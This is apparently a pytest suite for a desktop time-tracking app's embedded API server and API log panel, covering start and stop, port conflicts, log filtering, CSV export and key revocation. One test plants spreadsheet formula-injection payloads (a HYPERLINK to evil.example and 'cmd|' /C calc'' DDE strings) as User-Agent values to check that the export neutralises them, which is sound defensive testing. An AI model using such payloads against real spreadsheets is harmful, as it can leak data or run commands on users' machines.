"""The embedded API server (start, stop, a port in use) and the API Logs panel (browse,
live, filter, export, revoke from a row, the alert on a burst of refused requests)."""

from __future__ import annotations

import csv
import socket
import threading

import httpx
import pytest
from desktop_helpers import (
    STARTS_WITHIN_MS,
    click_button,
    column_texts,
    select_row,
    settle,
    visible_message_box,
)

from tempclock.api.services import keys, log_stats
from tempclock_desktop.panels.api_logs import export_csv
from tempclock_desktop.server import RUNNING, STOPPED

STATUS, PATH = 2, 4  # the API logs' columns


@pytest.fixture
def busy_port():
    """A loopback port another program is listening on."""
    holder = socket.socket()
    holder.bind(("127.0.0.1", 0))
    holder.listen()
    yield holder.getsockname()[1]
    holder.close()


def test_the_api_is_stopped_and_started_from_the_server_panel(qtbot, start_desktop, api_client):
    desktop = start_desktop(serve=True)
    window, server = desktop.window, desktop.server
    assert server.state == RUNNING
    assert server.api_url in window.server_status.text()
    client = api_client(server.url)
    assert client.get("/api/v1/workers").status_code == 401  # up, and asks for a key

    panel = window.show_panel("server")
    assert panel.stop_button.isVisible()
    panel.stop_button.click()
    qtbot.waitUntil(lambda: server.state == STOPPED, timeout=15_000)
    assert "API stopped" in window.server_status.text()
    assert panel.start_button.isVisible()
    with pytest.raises(httpx.ConnectError):
        httpx.get(f"{server.url}/api/v1/workers", timeout=2)

    port = server.port
    panel.start_server(port=port)
    qtbot.waitUntil(lambda: server.state == RUNNING, timeout=STARTS_WITHIN_MS)
    assert httpx.get(f"{server.url}/api/v1/workers", timeout=5).status_code == 401


def test_a_port_in_use_is_shown_with_a_free_port_to_switch_to(qtbot, start_desktop, busy_port,
                                                              api_client):
    desktop = start_desktop(serve=True, port=busy_port)
    window, server = desktop.window, desktop.server
    assert server.state == "failed"
    panel = window.panel("server")
    assert window.stack.currentWidget() is panel  # the admin is taken to the problem
    assert panel.port_banner.isVisible()
    assert f"Port {busy_port} is already in use" in panel.port_banner.text.text()
    suggested = panel.suggested_port.value()
    assert suggested != busy_port
    assert "API not running" in window.server_status.text()

    panel.use_port_button.click()
    qtbot.waitUntil(lambda: server.state == RUNNING, timeout=STARTS_WITHIN_MS)
    assert server.port == suggested
    assert not panel.port_banner.isVisible()
    assert desktop.session.settings.port == suggested  # remembered for next time
    assert api_client(server.url).get("/api/v1/workers").status_code == 401


def test_listening_on_the_lan_shows_a_plain_warning(qtbot, start_desktop):
    desktop = start_desktop()
    panel = desktop.window.show_panel("server")
    assert not panel.lan_warning.isVisible()
    panel.lan.setChecked(True)
    assert panel.lan_warning.isVisible()
    assert "Other computers on your network" in panel.lan_warning.text.text()


def test_log_retention_is_saved_for_the_account(qtbot, start_desktop):
    desktop = start_desktop()
    panel = desktop.window.show_panel("server")
    settle(qtbot)
    assert panel.retention.value() == 90
    panel.retention.setValue(30)
    panel.retention_button.click()
    qtbot.waitUntil(lambda: desktop.session.account.log_retention_days == 30)


def _traffic(client: httpx.Client, key: str) -> None:
    headers = {"Authorization": f"Bearer {key}"}
    for path in ("/api/v1/workers", "/api/v1/locations", "/api/v1/workers/999"):
        client.get(path, headers=headers)
    for n in range(3):
        client.get("/api/v1/workers", headers={"Authorization": f"Bearer tc_live_{n:040x}"})


def test_logs_are_browsed_filtered_exported_and_new_requests_appear_live(
        qtbot, start_desktop, api_client, account, tmp_path):
    key = keys.issue_key(account.id, "Bullhorn ATS").plaintext
    desktop = start_desktop(serve=True)
    client = api_client(desktop.server.url)
    _traffic(client, key)
    panel = desktop.window.show_panel("api_logs")
    qtbot.waitUntil(lambda: panel.model.rowCount() == 6, timeout=10_000)
    assert column_texts(panel.model, STATUS)[:1] == ["401"]  # newest first
    assert "Bullhorn ATS · " + key[:16] + "…" in column_texts(panel.model, 1)
    assert key not in "".join("".join(column_texts(panel.model, c)) for c in range(9))

    # Live: a new request shows up without touching anything.
    client.get("/api/v1/departments", headers={"Authorization": f"Bearer {key}"})
    qtbot.waitUntil(lambda: column_texts(panel.model, PATH)[:1] == ["/api/v1/departments"],
                    timeout=10_000)

    panel.auth_only.setChecked(True)
    qtbot.waitUntil(lambda: column_texts(panel.model, STATUS) == ["401"] * 3)
    panel.auth_only.setChecked(False)
    panel.path_filter.setText("locations")
    panel.path_filter.flush()
    qtbot.waitUntil(lambda: column_texts(panel.model, PATH) == ["/api/v1/locations"])
    panel.path_filter.setText("")
    panel.status_filter.setCurrentIndex(panel.status_filter.findData(4))
    panel.apply_filters()
    qtbot.waitUntil(lambda: sorted(column_texts(panel.model, STATUS)) == ["401", "401", "401", "404"])

    target = tmp_path / "logs.csv"
    with qtbot.waitSignal(panel.exported, timeout=10_000) as exported:
        panel.export(str(target))
    assert exported.args == [str(target), 4]
    rows = list(csv.DictReader(target.open(encoding="utf-8")))
    assert sorted(r["status"] for r in rows) == ["401", "401", "401", "404"]
    assert all(key not in ",".join(r.values()) for r in rows)
    visible_message_box(qtbot, "4 requests written").accept()

    # The live refresh may be reloading the rows just now (a loaded machine): wait for the row.
    qtbot.waitUntil(lambda: "/api/v1/workers/999" in column_texts(panel.model, PATH),
                    timeout=10_000)
    select_row(panel.table, "/api/v1/workers/999", column=PATH)
    qtbot.waitUntil(lambda: "Request id" in panel.detail.toPlainText())
    assert "404" in panel.detail.toPlainText()


def test_a_key_is_revoked_from_its_log_row_and_refused_next_time(
        qtbot, start_desktop, api_client, account):
    key = keys.issue_key(account.id, "Old CRM sync").plaintext
    desktop = start_desktop(serve=True)
    client = api_client(desktop.server.url)
    headers = {"Authorization": f"Bearer {key}"}
    assert client.get("/api/v1/workers", headers=headers).status_code == 200
    panel = desktop.window.show_panel("api_logs")
    qtbot.waitUntil(lambda: panel.model.rowCount() == 1, timeout=10_000)
    panel.table.selectRow(0)
    assert panel.revoke_button.isEnabled()
    panel.revoke_button.click()
    click_button(visible_message_box(qtbot, "Revoke “Old CRM sync”"), "Revoke key")
    qtbot.waitUntil(lambda: keys.list_keys(account.id)[0].status == "Revoked")
    assert client.get("/api/v1/workers", headers=headers).status_code == 401


def test_a_key_refused_for_a_missing_scope_is_a_setting_to_grant_not_a_compromise(
        qtbot, start_desktop, api_client, account):
    narrow = keys.issue_key(account.id, "Payroll export", scopes=["workers:read"]).plaintext
    desktop = start_desktop(serve=True)
    client = api_client(desktop.server.url)
    bearer = {"Authorization": f"Bearer {narrow}"}
    for _ in range(12):
        assert client.get("/api/v1/timesheets", headers=bearer).status_code == 403
    panel = desktop.window.show_panel("api_logs")
    qtbot.waitUntil(lambda: panel.model.rowCount() == 12, timeout=10_000)

    def stats_count_all_twelve() -> bool:
        # A refresh started while the log writer was still catching up counts fewer;
        # refresh_stats() does nothing while one is under way.
        panel.refresh_stats()
        if panel.per_key.rows[:1] != [(f"Payroll export · {narrow[:16]}…", 12, 12)]:
            return False
        # Run between 00:00 and 05:00 local time, the same twelve requests are also a burst
        # at night, a more urgent alert shown first: the admin goes on to the next one.
        for _ in range(len(panel.alerts)):
            if "12 times" in panel.banner.text.text():
                return True
            panel.banner_next.click()
        return False

    qtbot.waitUntil(stats_count_all_twelve, timeout=10_000)
    text = panel.banner.text.text()
    assert panel.banner.isVisible()
    assert "“Payroll export” is not allowed to read time entries" in text
    assert "compromised" not in text.lower() and "revoke" not in text.lower()
    assert panel.banner_action.text() == "Grant “Read time entries”"
    panel.banner_show.click()
    assert panel.auth_only.isChecked()
    qtbot.waitUntil(lambda: column_texts(panel.model, STATUS) == ["403"] * 12)

    panel.banner_action.click()
    qtbot.waitUntil(lambda: "timesheets:read" in keys.list_keys(account.id)[0].scopes)
    assert client.get("/api/v1/timesheets", headers=bearer).status_code == 200
    asks_for_a_scope = lambda: [a for a in panel.alerts if a.kind == "scope_missing"]  # noqa: E731
    qtbot.waitUntil(lambda: not asks_for_a_scope())
    panel.refresh_stats()
    settle(qtbot)
    assert not asks_for_a_scope()  # granted: nothing left to ask
    # (at night the burst alert stays: a key busy between 00:00 and 05:00 for the first time)
    assert panel.banner.isVisible() == any(a.kind == "odd_hours" for a in panel.alerts)


def test_closing_can_keep_the_api_serving_from_the_tray(qtbot, start_desktop, api_client):
    desktop = start_desktop(serve=True)
    window = desktop.window
    box = window.ask_keep_running()
    assert "Keep the API running?" in box.windowTitle()
    click_button(box, "Keep running in tray")
    assert not window.isVisible()
    assert desktop.server.state == RUNNING
    assert api_client(desktop.server.url).get("/api/v1/workers").status_code == 401


def test_a_new_port_is_saved_and_the_api_restarts_on_it(qtbot, start_desktop, api_client):
    desktop = start_desktop(serve=True)
    server = desktop.server
    panel = desktop.window.show_panel("server")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        new_port = probe.getsockname()[1]
    panel.port.setValue(new_port)
    panel.apply_button.click()
    qtbot.waitUntil(lambda: server.state == RUNNING and server.port == new_port, timeout=STARTS_WITHIN_MS)
    assert desktop.session.settings.port == new_port
    assert api_client(server.url).get("/api/v1/workers").status_code == 401


def test_exported_logs_never_carry_a_live_spreadsheet_formula(qtbot, start_desktop, api_client,
                                                              account, tmp_path):
    key = keys.issue_key(account.id, "Bullhorn ATS").plaintext
    desktop = start_desktop(serve=True)
    client = api_client(desktop.server.url)
    planted = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0",
               "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
    for n, agent in enumerate(planted):
        # No valid key is needed to plant one: a made-up key is logged too.
        bearer = key if n % 2 else f"tc_live_{n:040x}"
        client.get("/api/v1/workers?=1+1&@x", headers={"Authorization": f"Bearer {bearer}", "User-Agent": agent})
    panel = desktop.window.show_panel("api_logs")
    qtbot.waitUntil(lambda: panel.model.rowCount() == len(planted), timeout=10_000)
    target = tmp_path / "logs.csv"
    with qtbot.waitSignal(panel.exported, timeout=10_000):
        panel.export(str(target))
    with target.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(row["user_agent"] for row in rows) == sorted("'" + a for a in planted)
    assert {row["query"][:1] for row in rows} == {"'"}
    live = [cell for row in rows for cell in row.values()
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert live == []
    visible_message_box(qtbot, "4 requests written").accept()


def test_a_cancelled_log_export_leaves_the_earlier_file_as_it_was(account, tmp_path):
    target = tmp_path / "exports" / "logs.csv"
    target.parent.mkdir()
    target.write_text("last month's export\n", encoding="utf-8")
    cancelled = threading.Event()
    cancelled.set()
    written = export_csv(target, account.id, log_stats.LogFilter(), lambda *_: None, cancelled)
    assert written == 0
    assert target.read_text(encoding="utf-8") == "last month's export\n"
    assert [p.name for p in target.parent.iterdir()] == ["logs.csv"]
